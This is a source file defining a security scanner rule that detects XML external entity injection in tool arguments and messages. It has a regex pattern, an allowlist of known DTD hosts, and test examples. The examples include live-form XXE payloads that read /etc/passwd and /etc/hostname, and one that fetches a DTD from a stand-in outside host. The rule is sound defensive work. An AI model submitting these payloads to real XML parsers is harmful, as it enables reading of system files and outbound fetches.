import { scan } from "oktsec/evidence";
import { defineRule } from "oktsec/rule";

export default defineRule({
  id: "EXFIL_112",
  title: "XML with an external entity",
  why: "The parser fetches what the entity names, a file or an inner address, and puts it into the answer.",
  fix: "Turn external entities off in the parser, and refuse documents with a DOCTYPE.",
  severity: "high",
  category: "exfiltration",
  lane: "block",
  maps: { asi: ["ASI02"], mcp: ["MCP05"], cwe: ["CWE-611"] },
  keywords: ["<!entity", "<!doctype", "xi:include"],
  match: scan(
    /<!(?:ENTITY\s{1,4}(?:%\s{1,3})?[\w.-]{1,60}|DOCTYPE\s{1,4}[\w.:-]{1,60})\s{1,4}(?:\[\s{0,4}<!ENTITY\s{1,4}(?:%\s{1,3})?[\w.-]{1,60}\s{1,4})?(?:SYSTEM|PUBLIC\s{1,4}["'][^"']{0,200}["'])\s{1,4}["'](?:file|https?|ftp|php|expect|gopher|jar|netdoc|data|\/|\.\.|\\\\)[^"']{1,300}|<xi:include\b[^<>]{0,80}\bhref\s{0,2}=\s{0,2}["'](?:file:|\/)[^"']{1,200}/i,
    (match) =>
      !/(?:w3\.org|apple\.com\/DTDs|oasis-open\.org|java\.sun\.com|xmlsoap\.org|mybatis\.org|hibernate\.(?:org|sourceforge)|jboss\.org|puppycrawl|struts\.apache|checkstyle\.org|springframework\.org)/i
        .test(match[0]),
  ),
  examples: {
    flags: [
      {
        text: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        kind: "tool_argument",
      },
      { text: '<!ENTITY % p SYSTEM "http://x.example.net/e.dtd"> %p;', kind: "message" },
      { text: '<xi:include href="file:///etc/hostname" parse="text"/>', kind: "tool_argument" },
    ],
    passes: [
      { text: "<!DOCTYPE html>", kind: "document" },
      {
        text:
          '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        kind: "document",
      },
      { text: '<!ENTITY copy "&#169;">', kind: "document" },
    ],
  },
});
